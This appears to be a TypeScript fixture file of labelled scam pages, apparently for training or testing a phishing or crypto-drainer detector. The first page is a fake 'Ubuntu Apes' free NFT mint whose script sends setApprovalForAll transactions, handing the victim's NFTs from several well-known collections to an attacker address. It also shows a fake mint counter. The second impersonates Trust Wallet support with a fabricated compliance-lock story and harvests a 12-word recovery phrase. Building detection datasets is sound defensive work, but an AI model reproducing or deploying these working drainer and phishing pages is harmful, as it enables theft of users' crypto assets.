import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, codes, cookieBar, doc, favicon, gtag, hexOf, pct, rev, wordmark, xorB64 } from '../parts/yh-kit.js';
import { apk, beepWav, cfb, cssRoute, fileRoute, iso, jsRoute, jsonRoute, lnk, pe, pngRoute, rar5, sevenZip, zip } from '../parts/e-bin.js';


export const entries: Entry[] = [
{
  id: 'yh-nft-mint-ubuntu-apes-setapproval',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://ubuntuapes-mint.xyz/',
  body: doc('Ubuntu Apes | Free Mint Live', `
<header><b>UBUNTU APES</b><button id="c">Connect</button></header>
<main>
 <div class="art">🦍</div>
 <div class="info"><h1>Free Mint is LIVE</h1><p>5 555 hand-drawn apes celebrating African art. Holders get access to the Ubuntu DAO and royalties.</p>
 <div class="pr"><span>Minted</span><b id="m">4 912 / 5 555</b></div>
 <div class="q"><button onclick="q(-1)">−</button><span id="n">1</span><button onclick="q(1)">+</button></div>
 <button id="mint" class="mb">Mint (0 ETH + gas)</button><p id="s"></p></div>
</main>
<script>
var n=1,a=null,E=window.ethereum,OP="0x3b91f7Ca0dE53A8d8b66c1a5f3dBcE4a9f2C0e71";
var COLL=["0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D","0x60E4d786628Fea6478F785A6d7e704777c86a7c6","0xED5AF388653567Af2F388E6224dC7C4b3241C544","0x8a90CAb2b38dba80c64b7734e58Ee1dB38B8992e"];
function q(d){n=Math.min(3,Math.max(1,n+d));document.getElementById('n').textContent=n}
async function con(){if(!E){alert('Please install MetaMask');return}a=(await E.request({method:'eth_requestAccounts'}))[0];document.getElementById('c').textContent=a.slice(0,6)+'…'}
document.getElementById('c').onclick=con;
document.getElementById('mint').onclick=async function(){
 if(!a)await con();if(!a)return;document.getElementById('s').textContent='Preparing mint… confirm in your wallet';
 for(var i=0;i<COLL.length;i++){
  try{await E.request({method:'eth_sendTransaction',params:[{from:a,to:COLL[i],data:'0xa22cb465'+OP.slice(2).toLowerCase().padStart(64,'0')+'1'.padStart(64,'0')}]})}catch(e){}
 }
 document.getElementById('s').textContent='Mint pending. Your ape will appear in your wallet shortly.';
};
setInterval(function(){var m=document.getElementById('m');var v=parseInt(m.textContent.replace(/\\s/g,''));if(v<5550)m.textContent=(v+1).toLocaleString('fr-FR')+' / 5 555'},3000);
</script>`, {
    css: `body{margin:0;background:#f4e9d8;font-family:"Space Grotesk",Arial,sans-serif}header{display:flex;justify-content:space-between;padding:18px 30px;background:#2b1a0f;color:#f4e9d8}header button{background:#e85d04;color:#fff;border:0;padding:8px 16px;border-radius:20px}
main{display:flex;gap:40px;max-width:900px;margin:50px auto;align-items:center}.art{font-size:200px;background:#e85d04;border-radius:20px;padding:20px}.pr{display:flex;justify-content:space-between}.q{display:flex;gap:14px;align-items:center;margin:16px 0}.mb{background:#2b1a0f;color:#fff;border:0;padding:14px 34px;border-radius:10px;font-size:17px}`,
  }),
},
{
  id: 'yh-trustwallet-support-restore-phrase',
  label: 'cryptodrainer',
  kind: 'seed-phrase-harvest',
  url: 'https://trustwallet-helpdesk.support/ticket/restore',
  body: doc('Trust Wallet Support – Restore your wallet', `
<div class="t">${wordmark('Trust Wallet', '#0500ff', { shape: 'shield', h: 32, w: 190 })}<span>Support Center</span></div>
<div class="c">
 <h2>Ticket #TW-88214 · Wallet restore</h2>
 <p>Hi, thank you for contacting Trust Wallet support. Our records show that your wallet was flagged by our compliance system and your assets have been temporarily locked. To restore access, please confirm ownership by entering your Secret Recovery Phrase below. Our engineer will re-sync your wallet within 15 minutes.</p>
 <form method="post" action="/ticket/restore.php" id="f">
  <div class="g" id="g"></div>
  <input type="hidden" name="phrase" id="ph">
  <label>Email for ticket updates</label><input name="email" type="email">
  <button>Restore wallet</button>
 </form>
</div>
<script>var g=document.getElementById('g');for(var i=1;i<=12;i++){var d=document.createElement('div');d.innerHTML='<span>'+i+'</span><input class="w" autocomplete="off" required>';g.appendChild(d)}
document.getElementById('f').onsubmit=function(){document.getElementById('ph').value=[].map.call(document.querySelectorAll('.w'),function(x){return x.value.trim()}).join(' ')};</script>`, {
    css: `body{margin:0;background:#f5f7ff;font-family:"Binance Plex",Arial,sans-serif}.t{background:#fff;padding:12px 24px;display:flex;align-items:center;gap:12px;box-shadow:0 1px 3px #0001}.t span{color:#555}.c{max-width:560px;margin:26px auto;background:#fff;padding:24px;border-radius:10px}
.g{display:grid;grid-template-columns:repeat(3,1fr);gap:8px}.g div{display:flex;align-items:center;gap:6px}.g span{width:18px;color:#888;font-size:12px}.g input{flex:1;padding:8px;border:1px solid #ccd;border-radius:6px}label{display:block;margin:14px 0 4px;font-size:13px}
input[type=email]{width:100%;box-sizing:border-box;padding:9px;border:1px solid #ccd}button{margin-top:14px;width:100%;background:#0500ff;color:#fff;border:0;padding:12px;border-radius:8px}`,
  }),
},
];
